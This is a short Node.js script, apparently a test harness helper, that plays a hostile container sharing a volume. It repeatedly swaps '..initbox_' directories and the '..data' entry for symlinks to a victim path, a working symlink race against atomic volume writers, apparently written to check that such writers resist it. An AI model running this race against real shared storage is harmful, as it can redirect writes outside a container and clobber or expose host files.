// Another container on the same volume, up to no good: replaces every directory that appears in the target by a link
// to the victim, and `..data` by one to it now and then, until standard input ends.
// argv: target, victim
import { readdirSync, renameSync, rmSync, symlinkSync, writeSync } from 'node:fs';

const [target = '', victim = ''] = process.argv.slice(2);
let over = false;
let swaps = 0;
process.stdin.on('end', () => (over = true)).resume();
while (!over) {
  for (let round = 0; round < 200; round++) {
    for (const name of readdirSync(target)) {
      if (!name.startsWith('..initbox_') && !(name === '..data' && swaps % 5 === 0)) continue;
      try {
        renameSync(`${target}/${name}`, `${target}/away-${swaps}`);
        symlinkSync(victim, `${target}/${name}`);
        rmSync(`${target}/away-${swaps}`, { recursive: true, force: true });
        swaps++;
      } catch {
        // it was faster
      }
    }
  }
  await new Promise((resolve) => setImmediate(resolve));
}
writeSync(1, JSON.stringify({ swaps }));
